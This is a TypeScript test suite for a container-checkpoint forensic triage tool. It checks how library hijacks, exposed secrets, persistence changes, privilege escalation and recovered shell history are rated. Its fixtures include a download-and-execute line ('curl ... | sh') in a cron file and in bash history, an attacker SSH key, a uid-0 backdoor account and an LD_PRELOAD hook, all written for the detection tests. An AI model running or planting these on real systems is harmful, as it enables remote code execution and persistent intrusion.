/**
 * Triage families 6-10 on synthetic checkpoints made from the real fixtures (synth.ts), attack and benign
 * look-alike side by side:
 *   6 library hijack (T1574.006), 7 secrets (T1552.007 / T1552.001), 8 changes on disk (T1053.003,
 *   T1098.004, T1136.001, T1574.006, T1105, T1070.004), 9 privilege (T1548, T1611), 10 shell history.
 */
import { describe, test } from 'node:test';
import * as assert from 'node:assert/strict';
import { elfHeader, PROT_R, PROT_W, PROT_X, Synth } from './synth';
import { brief, of, triageOf } from './run';

const BASE = 'crio-counter';
const ENV = ['PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin', 'HOSTNAME=counters'];

describe('triage 6: library hijack (T1574.006)', () => {
  test('LD_PRELOAD from a hidden temporary folder is high, from an unknown installed library medium; jemalloc and LD_LIBRARY_PATH to installed folders info', async () => {
    const s = await Synth.from(BASE);
    s.setStrings(6, 'env', [...ENV, 'LD_PRELOAD=/tmp/.x/libhook.so']);
    s.setStrings(7, 'env', [...ENV, 'LD_PRELOAD=/usr/local/lib/libfoo.so']);
    s.setStrings(1, 'env', [...ENV, 'LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2', 'LD_LIBRARY_PATH=/usr/local/nvidia/lib64:/opt/oracle/instantclient']);
    const hook = s.addRegFile('/tmp/.x/libhook.so');
    s.mapRegion(6, { prot: PROT_R | PROT_X, fileId: hook });
    const r = await triageOf(s.finish());
    const f = of(r, 'hijack');
    const sev = (needle: string) => f.filter((x) => x.title.includes(needle)).map((x) => x.severity);
    assert.deepEqual(sev('LD_PRELOAD=/tmp/.x/libhook.so'), ['high'], brief(f));
    assert.deepEqual(sev('LD_PRELOAD=/usr/local/lib/libfoo.so'), ['medium']);
    assert.deepEqual(sev('libjemalloc'), ['info']);
    assert.deepEqual(sev('LD_LIBRARY_PATH'), ['info']);
    assert.deepEqual(sev('runs code from /tmp/.x/libhook.so'), ['high'], 'the mapped library itself');
    const preload = f.find((x) => x.title.includes('/tmp/.x/libhook.so') && x.title.startsWith('LD_PRELOAD'))!;
    assert.ok(preload.evidence.some((e) => e.kind === 'env' && e.pid === 6 && e.name === 'LD_PRELOAD'));
    assert.ok(preload.evidence.some((e) => e.kind === 'vma' && e.name === '/tmp/.x/libhook.so'), 'links the mapping');
  });

  test('a library changed in the container: libc is high (a rootkit), a pip-installed module medium', async () => {
    const s = await Synth.from(BASE);
    s.rootfsAdd('/usr/lib/x86_64-linux-gnu/libc.so.6', Buffer.concat([elfHeader(), Buffer.alloc(100)]), 0o755);
    s.rootfsAdd('/usr/local/lib/python3.11/site-packages/yaml/_yaml.cpython-311-x86_64-linux-gnu.so', Buffer.concat([elfHeader(), Buffer.alloc(100)]), 0o644);
    s.mapRegion(6, { prot: PROT_R | PROT_X, fileId: s.addRegFile('/usr/lib/x86_64-linux-gnu/libc.so.6') });
    s.mapRegion(7, { prot: PROT_R | PROT_X, fileId: s.addRegFile('/usr/local/lib/python3.11/site-packages/yaml/_yaml.cpython-311-x86_64-linux-gnu.so') });
    const r = await triageOf(s.finish());
    assert.deepEqual(of(r, 'hijack').map((f) => `${f.pid} ${f.severity}`), ['6 high', '7 medium'], brief(of(r, 'hijack')));
  });

  test('libraries PyInstaller unpacks to /tmp are low; a library in /dev/shm is high', async () => {
    const s = await Synth.from(BASE);
    s.mapRegion(6, { prot: PROT_R | PROT_X, fileId: s.addRegFile('/tmp/_MEI4t2Zx1/libpython3.11.so.1.0') });
    s.mapRegion(7, { prot: PROT_R | PROT_X, fileId: s.addRegFile('/dev/shm/libx.so') });
    const r = await triageOf(s.finish());
    assert.deepEqual(of(r, 'hijack').map((f) => `${f.pid} ${f.severity}`), ['7 high', '6 low'], brief(of(r, 'hijack')));
  });
});

describe('triage 7: secrets (T1552.007, T1552.001)', () => {
  const AWS_KEY = 'AKIAQ3EGZKJ7VXRM5PLD';
  const AWS_SECRET = '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';
  const PEM = '-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEAxQ8mUJ0c3pZr0lWkz9YbK2m4fA1HcVq7u8sT3nB6eXyR2dLw\n-----END RSA PRIVATE KEY-----\n';
  const JWT = 'eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6InRyaWFnZSJ9.hV0o5uY9kQmX2Jc4bT8rN1wE7sZ3pL6aD0fG5vC9xYk';

  test('credentials in the environment are low, redacted unless asked; pointers to secret files and switches are not secrets', async () => {
    const s = await Synth.from(BASE);
    s.setStrings(6, 'env', [...ENV, `AWS_SECRET_ACCESS_KEY=${AWS_SECRET}`, 'DB_PASSWORD_FILE=/run/secrets/db', 'PASSWORD_MIN_LENGTH=12', 'GITHUB_TOKEN=ghp_R8x2kq7ZtYvW3mN5bC1dF9hJ4lP6sA0eU']);
    const dir = s.finish();
    const r = await triageOf(dir);
    const f = of(r, 'secrets');
    assert.deepEqual(f.map((x) => `${x.severity} ${x.technique}`), ['low T1552.007', 'low T1552.007'], brief(f));
    const aws = f.find((x) => x.title.includes('AWS_SECRET_ACCESS_KEY'))!;
    assert.ok(!JSON.stringify(r).includes(AWS_SECRET), 'the secret is not in the output');
    assert.match(aws.title, /AWS_SECRET_ACCESS_KEY=wJal\*{8} \(40 chars, redacted\)/);
    const shown = await triageOf(dir, { showSecrets: true });
    assert.ok(JSON.stringify(shown).includes(AWS_SECRET), '--show-secrets shows it');
    assert.equal(shown.summary.secrets_shown, true);
    assert.deepEqual(shown.findings.map((x) => x.id), r.findings.map((x) => x.id), 'ids do not depend on redaction');
  });

  test('secrets in memory: an AWS key id and a PEM key low, a JWT info, all with address and pages offset; the AWS example key and a bare PEM header are not secrets', async () => {
    const s = await Synth.from(BASE);
    const heap = Buffer.concat([
      Buffer.from(`x\0${AWS_KEY}\0padding\0${PEM}\0${JWT}\0`),
      Buffer.from('AKIAIOSFODNN7EXAMPLE\0-----BEGIN PRIVATE KEY-----\0%s\0'),
    ]);
    const at = s.mapRegion(6, { prot: PROT_R | PROT_W, data: heap });
    const r = await triageOf(s.finish());
    const f = of(r, 'secrets', 6);
    assert.deepEqual(f.map((x) => `${x.severity} ${x.technique}`).sort(), ['info T1552.001', 'low T1552.001', 'low T1552.001'], brief(f));
    const aws = f.find((x) => x.title.startsWith('AWS access key id'))!;
    assert.match(aws.title, /AKIA\*{8} \(20 chars, redacted\)/);
    const ptr = aws.evidence[0];
    assert.ok(ptr.kind === 'memory');
    assert.equal(ptr.address, '0x' + (at + 2n).toString(16));
    assert.equal(ptr.length, 20);
    assert.match(ptr.member ?? '', /^checkpoint\/pages-\d+\.img$/);
    assert.equal(typeof ptr.member_offset, 'number');
    assert.ok(!JSON.stringify(r).includes(AWS_KEY) && !JSON.stringify(r).includes(JWT));
  });

  test('a server holding many session tokens gives one finding for them, not one each', async () => {
    const s = await Synth.from(BASE);
    const tokens = Array.from({ length: 12 }, (_, i) => JWT.slice(0, -1) + 'ABCDEFGHIJKL'[i]);
    s.mapRegion(6, { prot: PROT_R | PROT_W, data: Buffer.from(tokens.join('\0') + '\0') });
    const r = await triageOf(s.finish());
    const f = of(r, 'secrets', 6);
    assert.equal(f.length, 1, brief(f));
    assert.match(f[0].title, /^12 distinct JSON Web Tokens in the memory of pid 6/);
    assert.equal(f[0].severity, 'info');
    assert.equal(f[0].evidence.length, 8);
  });
});

describe('triage 8: changes on disk', () => {
  test('persistence and dropped programs: each with its technique and the rootfs-diff member and offset', async () => {
    const s = await Synth.from(BASE);
    s.rootfsAdd('/etc/cron.d/update', '* * * * * root curl -s http://198.51.100.4/u | sh\n');
    s.rootfsAdd('/root/.ssh/authorized_keys', 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIB attacker\n');
    s.rootfsAdd('/etc/passwd', 'root:x:0:0:root:/root:/bin/sh\ntoor:x:0:0::/root:/bin/sh\n');
    s.rootfsAdd('/etc/ld.so.preload', '/usr/lib/libhook.so\n');
    s.rootfsAdd('/tmp/.cache-x/kdevtmpfsi', Buffer.concat([elfHeader(), Buffer.alloc(200)]), 0o755);
    s.rootfsAdd('/etc/systemd/system/backdoor.service', '[Service]\nExecStart=/tmp/x\n');
    s.deletedFiles(['/var/log/auth.log', '/usr/share/doc/readme']);
    const r = await triageOf(s.finish());
    const f = of(r, 'disk');
    const row = (p: string) => f.filter((x) => x.title.includes(p)).map((x) => `${x.severity} ${x.technique}`);
    assert.deepEqual(row('/etc/cron.d/update'), ['medium T1053.003'], brief(f));
    assert.deepEqual(row('authorized_keys'), ['medium T1098.004']);
    assert.deepEqual(row('uid 0 to toor'), ['high T1136.001']);
    assert.deepEqual(row('ld.so.preload'), ['high T1574.006']);
    assert.deepEqual(row('kdevtmpfsi'), ['high T1105']);
    assert.deepEqual(row('backdoor.service'), ['medium T1543']);
    assert.deepEqual(row('/var/log/auth.log'), ['medium T1070.004']);
    assert.deepEqual(row('/usr/share/doc'), []);
    assert.ok(f.every((x) => x.pid === null));
    const cron = f.find((x) => x.title.includes('/etc/cron.d/update'))!.evidence[0];
    assert.ok(cron.kind === 'file');
    assert.equal(cron.member, 'rootfs-diff.tar/etc/cron.d/update');
    assert.equal(typeof cron.member_offset, 'number');
  });

  test('benign changes: a run-time user appended to /etc/passwd is medium, unpacked libraries in /tmp low, data files nothing; the fixture\'s own changes nothing', async () => {
    const s = await Synth.from(BASE);
    s.rootfsAdd('/etc/passwd', 'root:x:0:0:root:/root:/bin/sh\napp:x:1000680000:0:app user:/home/app:/sbin/nologin\n');
    s.rootfsAdd('/tmp/_MEIab12/libz.so.1', Buffer.concat([elfHeader(), Buffer.alloc(100)]), 0o755);
    s.rootfsAdd('/tmp/upload-1234.json', '{"a":1}');
    s.rootfsAdd('/tmp/go-build1234/b001/exe/app.test', Buffer.concat([elfHeader(), Buffer.alloc(100)]), 0o755);
    s.rootfsAdd('/root/.vscode-server/bin/abc/node', Buffer.concat([elfHeader(), Buffer.alloc(100)]), 0o755);
    s.rootfsAdd('/etc/ld.so.preload', '');
    const r = await triageOf(s.finish());
    assert.deepEqual(of(r, 'disk').map((x) => `${x.severity} ${x.title}`).sort(), [
      'low /etc/ld.so.preload written in the container (empty)',
      'low ELF program dropped in a temporary folder: /tmp/_MEIab12/libz.so.1 (164 bytes, mode 755)',
      'low ELF program dropped in a temporary folder: /tmp/go-build1234/b001/exe/app.test (164 bytes, mode 755)',
      'medium /etc/passwd changed in the container',
    ]);
  });
});

describe('triage 9: privilege (T1548, T1611)', () => {
  test('euid 0 for another user is high (low for su/sudo); every capability medium; a process missing its parent\'s seccomp filter medium', async () => {
    const s = await Synth.from(BASE);
    s.setCreds(7, { uid: 1000, euid: 0, suid: 0 });
    s.setCreds(6, { cap_eff: [0xffffffff, 0x1ff] });
    s.setSeccomp(7, 0);
    const r = await triageOf(s.finish());
    const f = of(r, 'privilege');
    assert.deepEqual(f.map((x) => `${x.pid} ${x.severity} ${x.technique}`), ['7 high T1548', '6 medium T1611', '7 medium T1611'], brief(f));
    s.setComm(7, 'sudo');
    const r2 = await triageOf(s.finish());
    assert.ok(of(r2, 'privilege', 7).some((x) => x.severity === 'low' && /euid 0/.test(x.title)));
  });

  test('a process that sandboxes itself (child filtered, parent not) is normal', async () => {
    const s = await Synth.from(BASE);
    s.setSeccomp(1, 0);
    const r = await triageOf(s.finish());
    assert.deepEqual(of(r, 'privilege'), [], brief(of(r, 'privilege')));
  });
});

describe('triage 10: shell history from memory (info)', () => {
  /** bash's HIST_ENTRY { line, timestamp, data } pointing at "line\0" and "#<seconds>\0" (readline history.h). */
  function histRegion(base: bigint, commands: [string, number][]): Buffer {
    const strings: Buffer[] = [];
    const entries = Buffer.alloc(commands.length * 24);
    let off = entries.length;
    commands.forEach(([line, time], i) => {
      const l = Buffer.from(line + '\0');
      const t = Buffer.from(`#${time}\0`);
      entries.writeBigUInt64LE(base + BigInt(off), i * 24);
      entries.writeBigUInt64LE(base + BigInt(off + l.length), i * 24 + 8);
      strings.push(l, t);
      off += l.length + t.length;
    });
    return Buffer.concat([entries, ...strings]);
  }

  test("bash's in-memory history is recovered with times; a timestamp-like string without an entry, or in a non-shell, is nothing", async () => {
    const s = await Synth.from('criu-dir'); // pid 1 is bash
    const base = 0x7d0000000000n;
    s.mapRegion(1, { prot: PROT_R | PROT_W, at: base, data: histRegion(base, [['id', 1795653390], ['curl -s http://198.51.100.4/x | sh', 1795653400]]) });
    s.mapRegion(3, { prot: PROT_R | PROT_W, at: base, data: histRegion(base, [['not a shell', 1795653390]]) });
    const r = await triageOf(s.finish());
    const f = of(r, 'history');
    assert.equal(f.length, 1, brief(f));
    assert.equal(f[0].pid, 1);
    assert.equal(f[0].severity, 'info');
    assert.match(f[0].title, /2 commands recovered from memory, last: curl -s/);
    assert.deepEqual(f[0].evidence.map((e) => e.label), ['2026-11-26T00:36:30.000Z id', '2026-11-26T00:36:40.000Z curl -s http://198.51.100.4/x | sh']);
  });
});
